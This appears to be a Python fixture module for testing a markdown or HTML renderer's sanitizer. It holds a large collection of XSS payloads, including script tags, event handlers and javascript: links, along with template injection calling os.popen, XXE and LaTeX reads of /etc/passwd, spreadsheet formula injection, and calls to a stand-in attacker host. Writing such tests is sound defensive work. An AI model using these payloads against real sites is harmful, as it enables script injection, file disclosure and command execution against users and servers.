"""What an attacker would type into a field, each a different way to run a script, send a reader away or call another host.

`§` stands for a number of seven digits that no other field gets: what runs says by it whence it came. The last ones
swallow what stands behind them where they work.
"""

from collections.abc import Iterator

SCRIPT = "pwned=§"
FAR = "http://attacker.invalid/§"

_TAGS = [
    "<script>pwned=§</script>",
    "<svg onload=pwned=§>",
    "<ScRiPt/x>pwned=§</sCrIpT >",
    "<script src=//attacker.invalid/§></script>",
    "<script type=module>window.pwned=§</script>",
    "<img src=x onerror=pwned=§>",
    "<img src=x onerror='alert(§)'>",
    '<img src="x" onerror="alert(§)">',
    "<img src=`x` onerror=`pwned=§`>",
    "<img/src=x/onerror=pwned=§//",
    "<body onload=pwned=§>",
    "<details open ontoggle=pwned=§>",
    "<input autofocus onfocus=pwned=§>",
    "<p style=animation:md-graph onanimationstart=pwned=§>",
    "<video><source onerror=pwned=§></video>",
    "<svg><script>pwned=§</script></svg>",
    "<svg><a xlink:href='javascript:pwned=§'><text y=9>x</text></a><animate onbegin=pwned=§ attributeName=x></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:pwned=§>x</maction></math>",
    f"<iframe src={FAR}></iframe>",
    "<iframe srcdoc='<script>parent.pwned=§</script>'></iframe>",
    "<object data='data:text/html,<script>parent.pwned=§</script>'></object>",
    f"<embed src={FAR}>",
    f"<meta http-equiv=refresh content='0;url={FAR}'>",
    "<base href='http://attacker.invalid/§/'>",
    f"<link rel=stylesheet href={FAR}>",
    "<style>@import 'http://attacker.invalid/§'; body{background:url(http://attacker.invalid/§)}</style>",
    f"<form action={FAR}><button autofocus>x</button></form>",
    "<button form=search formaction=javascript:pwned=§>x</button>",
    f"<b style='background:url({FAR});width:expression(pwned=§)'>x</b>",
    "<form id=document name=body><input name=forms id=getElementById value=§></form>",
    '<script id=__config type=application/json>{"base":"http://attacker.invalid/§","search":"//attacker.invalid"}</script>',
    "<a id=__search name=location href=javascript:pwned=§ autofocus>x</a>",
]

_BREAK_OUTS = [
    '" onmouseover="pwned=§" autofocus onfocus="pwned=§" x="',
    "' onfocus='pwned=§' autofocus tabindex='0",
    '"><script>pwned=§</script>',
    "'><img src=x onerror=pwned=§>",
    "</title></textarea></pre></code></a></p></h1></div></header><script>pwned=§</script>",
    "</script><script>pwned=§</script>",
    '"}]}</script><img src=x onerror=pwned=§>',
    "\\u003cscript\\u003epwned=§\\u003c/script\\u003e \\x3cimg src=x onerror=pwned=§\\x3e",
    "</style><svg onload=pwned=§>",
    "]]><svg onload=pwned=§>",
    "--><svg onload=pwned=§>",
    "--!><img src=x onerror=pwned=§>",
    "---\ntitle: <script>pwned=§</script>\ntemplate: ../../references.bib\n---\n<script>pwned=§</script>",
    "...\n---\n<img src=x onerror=pwned=§>",
    "x\n\n</div>\n\n<script>pwned=§</script>\n",
    '\\"; window.pwned=§; //',
    "\u0002wzxhzdk:§\u0003 \u0002wzxhzdk:0\u0003 \u0002wzxhzdk:2\u0003 onfocus=pwned=§ autofocus tabindex=0",
    "\u0002amp\u0003lt;script>pwned=§\u0002klzzwxh:0000\u0003",
    "<script>pwned=§</script>\u007f",
    "<script>pwned=§</script>\ufffe",
    "<script>pwned=§</script>\u0085<img src=x onerror=pwned=§>\u2028</p>\u2029",
    "<scr\u0000ipt>pwned=§</scr\u0000ipt><img\u000csrc=x\u000bonerror=pwned=§>",
]

_LINKS = [
    "javascript:pwned=§",
    "[x](javascript:pwned=§)",
    "[x](JaVaScRiPt:pwned=§)",
    "[x](<java\tscript:pwned=§>)",
    "[x](javascript&colon;pwned=§) [y](&#106;avascript&#58;pwned=§) [z](&#x6A;avascript:pwned=§)",
    "[x](javascript%3Apwned=§) [y](\\javascript:pwned=§) [z](java&Tab;script&NewLine;:pwned=§)",
    "[x](\u0001javascript:pwned=§) [y](&#1;javascript:pwned=§) [z]( javascript:pwned=§)",
    "[x](javascript://example.org/%0Apwned=§) [y](https:javascript:pwned=§)",
    "[x](vbscript:msgbox(§)) [y](view-source:javascript:pwned=§) [z](feed:javascript:pwned=§)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) §",
    "[x](data:text/html,%3Cscript%3Epwned=§%3C/script%3E)",
    "[x](file:///etc/passwd#§) [y](\\\\attacker.invalid\\§) [z](//attacker.invalid/§)",
    "[x](ϳavascript:pwned=§) [y](ｊavascript:pwned=§) [z](javascript：pwned=§)",
    '[x](https://example.org/"onclick="pwned=§) [y](https://example.org/\'><svg/onload=pwned=§>)',
    '[x](https://example.org/ "\' onclick=pwned=§ x=\'\\"><svg onload=pwned=§>")',
    '![x](http://attacker.invalid/§.png) ![y](javascript:pwned=§) ![" onerror="pwned=§](x)',
    '[x]: javascript:pwned=§ "t"\n\n[x] [y][x] [x][] ![x]',
    '<javascript:pwned=§> <https://example.org/"onclick="pwned=§> <data:text/html,§>',
    'http://attacker.invalid/§"onmouseover=pwned=§//',
    'https://example.org/§?"><script>pwned=§</script>',
    "https://example.org/#§'autofocus/onfocus='pwned=§",
    "[<img src=x onerror=pwned=§>](https://example.org/) [`<svg onload=pwned=§>`](https://example.org/)",
    '10.1000/x"><script>pwned=§</script>',
]

_DIALECTS = [
    "[x](https://example.org/){: onclick=pwned=§ }",
    "# x { #__config .md-header onload=pwned=§ }",
    '{: id=__search onclick="pwned=§" style="position:fixed" }',
    "{{ config }} {{ 7*§ }} {{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{% include 'main.html' %}{% raw %}§{% for x in (1,2) %}{{ x }}{% endfor %}",
    '{{ "<script>pwned=§</script>" | safe }} ${pwned=§} #{pwned=§} <%= §%> {{{ § }}} [[${§}]]',
    '--8<-- "references.bib"\n\n;--8<-- "mkdocs.yml" §',
    '::: litmap §\n    handler: python\n\n!!! note "<script>pwned=§</script>"\n    x',
    "*[pwned]: <script>pwned=§</script>\n\n[TOC] [^1] §\n\n[^1]: <svg onload=pwned=§>",
    ":material-close:{ onclick=pwned=§ } ==x== ^^y^^ ~~z~~ {++<svg onload=pwned=§>++}",
    "$$\\href{javascript:pwned=§}{x}$$ \\href{javascript:pwned=§}{x} \\url{javascript:pwned=§}",
    '\\input{/etc/passwd} \\write18{id} \\char"3Cscript\\char"3E \\symbol{60}§ \\html{<script>pwned=§</script>}',
    "&lt;script&gt;pwned=§&lt;/script&gt; &#60;img src=x onerror=pwned=§&#62; &amp;lt;svg onload=pwned=§&amp;gt;",
    "&#0; &#1; &#x202e; &#xe000; &#xfffc; &#xf8ff; &#xd800; &#xfffe; <script>pwned=§</script>",
    '=HYPERLINK("http://attacker.invalid/§","x")',
    "+cmd|' /C calc'!A§ @SUM(1) -§",
    "\u202e>tpircs/<§>tpircs<\u202c \u2066x\u2069",
    "<scr\u200bipt>pwned=§</scr\u200bipt>\ufeff\u00ad",
    "＜script＞pwned=§＜/script＞ ‹svg onload=pwned=§› \u02bcx\u02ba",
    "__proto__ constructor prototype §",
    "@name-0 [onload=pwned=§] [@name-1, \"><script>pwned=§</script>; see @name-2, ' onclick=pwned=§]",
    "::error file=x,line=1::§\n##[set-output name=x]§ \u001b]8;;http://attacker.invalid/§\u0007x\u001b]8;;\u0007",
    "|x|<svg onload=pwned=§>|\n|-|-|\n|1|`<svg onload=pwned=§>`|",
    "- <svg onload=pwned=§>\n  1. > # <img src=x onerror=pwned=§>",
    "    <script>pwned=§</script>",
]

_SWALLOWING = [
    "```html onload=pwned=§\n<script>pwned=§</script>\n```",
    "<![CDATA[<script>pwned=§</script>]]>",
    '<?php pwned=§ ?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
    '<noscript><p title="</noscript><img src=x onerror=pwned=§>">',
    "§<textarea><plaintext><xmp><template>",
    "<!-- § --><img src=x onerror=pwned=§>",
    "<img title='§",
    "<!--[if gte IE 4]>§<script>alert(§)</script><![endif]-->",
    "§<!-- <script>pwned=§</script>",
]

PAYLOADS = tuple(_TAGS + _BREAK_OUTS + _LINKS + _DIALECTS + _SWALLOWING)

PLAIN = (
    "Plain words §.",
    "Some *emphasis* and **more**, `code §`, [a link](https://example.org/§) and a <https://example.org/§>.",
    "## A heading §",
    "### Another §\n\n> Quoted §\n\n- One\n- Two\n\n1. First\n\n---",
    "    code §\n\n@name-0 [§] and [see @name-1, §].",
    "10.1000/§",
    "https://example.org/§",
)
"""What a page may look like: all forms of harmless text, which show what elements and attributes there are."""

NAMES = (
    "location",
    "document",
    "forms",
    "body",
    "constructor",
    "name",
    "top",
    "config",
    "search",
    "lm-pointed",
    "pointed",
    "header",
    "base",
    "references",
    "take-1",
    "cite-1",
    "section-1",
    "palette",
)
"""Sound ids and keys that are properties of a page, or anchors of our own."""


def numbered(payload: str, numbers: Iterator[int]) -> tuple[str, int]:
    """The payload with its number in place, and the number."""
    number = next(numbers)
    return payload.replace("§", str(number)), number
